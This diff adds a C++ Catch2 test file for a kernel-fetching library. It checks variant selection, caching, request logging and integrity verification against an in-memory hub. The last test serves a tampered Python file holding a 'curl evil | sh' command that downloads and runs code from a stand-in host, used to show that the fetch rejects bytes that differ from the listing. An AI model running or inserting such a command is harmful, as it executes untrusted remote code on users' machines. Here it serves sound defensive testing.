@@ -1,0 +1,171 @@
+// fetch_variant over the Transport seam (FetchContext::transport): a Hub held in memory serves a
+// repo's revision, listing, publisher overview and files; the test checks the variant the fetch
+// chose and put in the cache, and each request it made.
+#include <algorithm>
+#include <catch2/catch.hpp>
+#include <fstream>
+#include <nlohmann/json.hpp>
+#include <sstream>
+
+#include "kernelhub/base/git_blob_sha1.hpp"
+#include "kernelhub/fetch/fetch.hpp"
+#include "memory_hub.hpp"
+#include "support/temp_dir.hpp"
+
+namespace kernelhub {
+namespace {
+
+using testing::MemoryHub;
+
+const std::string kCommit = "0123456789abcdef0123456789abcdef01234567";
+
+std::string read(const std::filesystem::path& path) {
+  std::ifstream in(path, std::ios::binary);
+  std::stringstream text;
+  text << in.rdbuf();
+  return text.str();
+}
+
+// acme/<name> at kCommit on `endpoint`: a pure-Python variant (torch-universal) and a CUDA one that
+// a machine without GPUs cannot run. The files are served as the Hub serves git files: an etag of
+// their git blob sha1, which the listing's `oid` gives too (`served` can differ from the listed
+// bytes, as a lying server's would).
+struct Repo {
+  std::string endpoint;
+  std::string name;
+  std::map<std::string, std::string> files;
+
+  std::string id() const { return "acme/" + name; }
+
+  void serve(MemoryHub& hub, const std::map<std::string, std::string>& served = {}) const {
+    const std::string api = endpoint + "/api/kernels/" + id();
+    hub.serve(api + "/revision/v1", {200, {}, nlohmann::json{{"id", id()}, {"sha", kCommit}}.dump()});
+    hub.serve(endpoint + "/api/organizations/acme/overview",
+              {200, {}, nlohmann::json{{"name", "acme"}, {"trustedKernelPublisher", true}}.dump()});
+    nlohmann::json listing = nlohmann::json::array();
+    for (const auto& [path, content] : files) {
+      listing.push_back({{"type", "file"}, {"path", path}, {"size", content.size()}, {"oid", git_blob_sha1(content)}});
+      const auto it = served.find(path);
+      const std::string& body = it != served.end() ? it->second : content;
+      hub.serve(endpoint + "/kernels/" + id() + "/resolve/" + kCommit + "/" + path,
+                {200,
+                 {{"etag", "\"" + git_blob_sha1(content) + "\""},
+                  {"x-repo-commit", kCommit},
+                  {"content-length", std::to_string(body.size())}},
+                 body});
+    }
+    hub.serve(api + "/tree/" + kCommit, {200, {}, listing.dump()});
+  }
+};
+
+Repo relu_repo(const std::string& endpoint, const std::string& name) {
+  const nlohmann::json metadata{{"name", name},
+                                {"id", "_" + name + "_universal_0000000"},
+                                {"version", 1},
+                                {"license", "Apache-2.0"},
+                                {"python-depends", nlohmann::json::array()},
+                                {"backend", {{"type", "cpu"}}}};
+  const std::string cuda = "build/torch215-cxx11-cu128-x86_64-linux/";
+  return Repo{endpoint,
+              name,
+              {{"build/torch-universal/metadata.json", metadata.dump(2)},
+               {"build/torch-universal/" + name + "/__init__.py", "def relu(x):\n    return x.clamp(min=0)\n"},
+               {cuda + "metadata.json", metadata.dump(2)},
+               {cuda + name + "/__init__.py", "from ._ops import ops\n"},
+               {cuda + name + "/_" + name + "_cuda.abi3.so", std::string(4096, '\x7f')}}};
+}
+
+struct Fetch {
+  testing::TempDir tmp{"fetch-transport"};
+  std::shared_ptr<MemoryHub> hub = std::make_shared<MemoryHub>();
+
+  Result<FetchedVariant> run(const std::string& endpoint, const std::string& name) const {
+    FetchRequest request;
+    request.source = client::RepoId{"acme", name};
+    request.version = 1;
+    request.loadable = resolver::Loadable::python_process();
+    // A CPU torch on a machine without GPUs: torch-universal runs, the CUDA build does not.
+    const resolver::TorchRuntime torch{resolver::Version{2, 15}, true, {}};
+    auto environment =
+        resolver::Environment::detect(torch, map_environment({{"KERNELHUB_BACKEND", "cpu"}, {"KERNELHUB_GPUS", ""}}))
+            .value();
+    const auto env = map_environment({{"HF_ENDPOINT", endpoint},
+                                      {"HF_HOME", (tmp.path() / "hf").string()},
+                                      {"KERNELHUB_STATE_DIR", (tmp.path() / "state").string()}});
+    return fetch_variant(request, FetchContext{std::move(environment), env, hub});
+  }
+  std::filesystem::path snapshot(const std::string& name) const {
+    return tmp.path() / "hf" / "hub" / ("kernels--acme--" + name) / "snapshots" / kCommit;
+  }
+};
+
+TEST_CASE("fetch_variant over an injected transport downloads the variant that runs here, and only it") {
+  Fetch fetch;
+  const Repo repo = relu_repo("http://hub-one.test", "relu");
+  repo.serve(*fetch.hub);
+
+  const auto fetched = fetch.run(repo.endpoint, "relu");
+  REQUIRE(fetched.has_value());
+  CHECK(fetched->variant == "torch-universal");
+  CHECK(fetched->revision == kCommit);
+  CHECK(fetched->path == fetch.snapshot("relu") / "build" / "torch-universal");
+  CHECK(fetched->metadata.name == "relu");
+  CHECK_FALSE(fetched->library.has_value());  // a pure-Python variant: nothing to dlopen
+  for (const auto& [path, content] : repo.files) {
+    if (path.starts_with("build/torch-universal/")) CHECK(read(fetch.snapshot("relu") / path) == content);
+  }
+  CHECK_FALSE(std::filesystem::exists(fetch.snapshot("relu") / "build" / "torch215-cxx11-cu128-x86_64-linux"));
+
+  // Every variant has its decision, the one chosen and the CUDA build with its reason.
+  const resolver::Decision* chosen = resolver::chosen(fetched->decisions);
+  REQUIRE(chosen != nullptr);
+  CHECK(chosen->name == "torch-universal");
+  const auto cuda = std::find_if(fetched->decisions.begin(), fetched->decisions.end(),
+                                 [](const auto& d) { return d.name == "torch215-cxx11-cu128-x86_64-linux"; });
+  REQUIRE(cuda != fetched->decisions.end());
+  CHECK_FALSE(cuda->accepted());
+
+  // The revision, the listing at its commit, the publisher, then the chosen variant's files (in
+  // any order, each once); nothing of the CUDA build.
+  const std::string resolve = "GET " + repo.endpoint + "/kernels/acme/relu/resolve/" + kCommit + "/";
+  auto requests = fetch.hub->requests();
+  REQUIRE(requests.size() == 5);
+  CHECK(requests[0] == "GET " + repo.endpoint + "/api/kernels/acme/relu/revision/v1");
+  CHECK_THAT(requests[1], Catch::StartsWith("GET " + repo.endpoint + "/api/kernels/acme/relu/tree/" + kCommit));
+  CHECK(requests[2] == "GET " + repo.endpoint + "/api/organizations/acme/overview");
+  std::sort(requests.begin() + 3, requests.end());
+  CHECK(requests[3] == resolve + "build/torch-universal/metadata.json");
+  CHECK(requests[4] == resolve + "build/torch-universal/relu/__init__.py");
+  CHECK(fetched->timings.requests == 5);
+}
+
+TEST_CASE("a second fetch in the process asks the Hub for the revision only") {
+  Fetch fetch;
+  const Repo repo = relu_repo("http://hub-two.test", "gelu");
+  repo.serve(*fetch.hub);
+  REQUIRE(fetch.run(repo.endpoint, "gelu").has_value());
+  const std::size_t first = fetch.hub->requests().size();
+
+  const auto again = fetch.run(repo.endpoint, "gelu");
+  REQUIRE(again.has_value());
+  CHECK(again->variant == "torch-universal");
+  const auto requests = fetch.hub->requests();
+  REQUIRE(requests.size() == first + 1);
+  CHECK(requests.back() == "GET " + repo.endpoint + "/api/kernels/acme/gelu/revision/v1");
+}
+
+TEST_CASE("bytes that are not the listed file fail the fetch and leave nothing in the snapshot") {
+  Fetch fetch;
+  const Repo repo = relu_repo("http://hub-three.test", "silu");
+  const std::string path = "build/torch-universal/silu/__init__.py";
+  repo.serve(*fetch.hub, {{path, "import os; os.system('curl evil | sh')\n"}});
+
+  const auto fetched = fetch.run(repo.endpoint, "silu");
+  REQUIRE_FALSE(fetched.has_value());
+  CHECK(fetched.error().code == ErrorCode::kIntegrityMismatch);
+  CHECK_THAT(fetched.error().message, Catch::Contains("__init__.py"));
+  CHECK_FALSE(std::filesystem::exists(fetch.snapshot("silu") / path));
+}
+
+}  // namespace
+}  // namespace kernelhub
